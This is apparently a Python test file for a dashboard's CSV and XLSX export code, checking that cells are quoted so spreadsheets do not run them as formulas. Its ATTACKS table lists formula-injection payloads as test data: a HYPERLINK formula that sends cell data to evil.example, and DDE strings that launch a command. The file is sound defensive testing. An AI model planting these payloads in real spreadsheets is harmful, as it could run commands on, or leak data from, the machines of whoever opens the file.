"""Downloads: CSV that Excel reads as UTF-8, XLSX with a header and an About sheet, and no
cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from dashboard.downloads import FORMULA_TRIGGERS, csv_bytes, neutralise, xlsx_bytes

ATTACKS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_every_trigger_character_is_covered():
    assert set(FORMULA_TRIGGERS) == set(ATTACKS)


@pytest.mark.parametrize("trigger", list(ATTACKS), ids=repr)
def test_formula_injection_comes_back_from_the_csv_as_inert_text(trigger: str):
    attack = ATTACKS[trigger]
    frame = pd.DataFrame({attack: [attack], "safe": ["a-b"]})
    header, row = read_csv(csv_bytes(frame))
    assert header == ["'" + attack, "safe"]
    assert row == ["'" + attack, "a-b"]


@pytest.mark.parametrize("trigger", list(ATTACKS), ids=repr)
def test_formula_injection_comes_back_from_the_xlsx_as_inert_text(trigger: str):
    attack = ATTACKS[trigger]
    frame = pd.DataFrame({attack: [attack], "safe": ["a-b"]})
    book = read_xlsx(xlsx_bytes(frame, [("Search", attack)]))
    header, row = book["Data"].iter_rows(min_row=1, max_row=2)
    for cell in (header[0], row[0], book["About"]["B2"]):
        assert cell.data_type == "s"  # a string, never "f" (formula)
        assert cell.value == "'" + attack
    assert row[1].value == "a-b"


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("a=1", "a=1"), ("", ""), (-3, -3), (None, None), (" =1", " =1")],
)
def test_neutralise_quotes_only_text_that_starts_with_a_trigger(value, expected):
    assert neutralise(value) == expected


def test_csv_is_utf8_with_a_bom_and_keeps_accents_and_empty_cells():
    frame = pd.DataFrame({"Ville": ["Genève", None], "Année": [2024, 2025]})
    assert read_csv(csv_bytes(frame)) == [["Ville", "Année"], ["Genève", "2024"], ["", "2025"]]


def test_xlsx_has_a_bold_frozen_header_fitted_widths_and_an_about_sheet():
    frame = pd.DataFrame(
        {
            "Name": ["A long event name that needs a wide column", "B"],
            "Started": [date(2024, 6, 14), None],
            "Value": [70, -3],
        }
    )
    book = read_xlsx(xlsx_bytes(frame, [("Table", "Events"), ("Data as of", "27 November")]))
    assert book.sheetnames == ["Data", "About"]
    data = book["Data"]
    assert [c.value for c in data[1]] == ["Name", "Started", "Value"]
    assert all(c.font.bold for c in data[1])
    assert data.freeze_panes == "A2"
    assert data["C3"].value == -3 and data["C3"].data_type == "n"  # numbers stay numbers
    assert data.column_dimensions["A"].width > data.column_dimensions["C"].width
    assert [[c.value for c in r] for r in book["About"].iter_rows()] == [
        ["About", "Value"],
        ["Table", "Events"],
        ["Data as of", "27 November"],
    ]


def test_xlsx_holds_values_openpyxl_cannot_write_directly():
    frame = pd.DataFrame(
        {"when": [pd.Timestamp("2025-01-01T10:00", tz="UTC")], "bad": ["a\x00b\x1fc"]}
    )
    row = list(read_xlsx(xlsx_bytes(frame, []))["Data"].iter_rows(min_row=2, values_only=True))
    assert row == [("2025-01-01T10:00:00+00:00", "abc")]
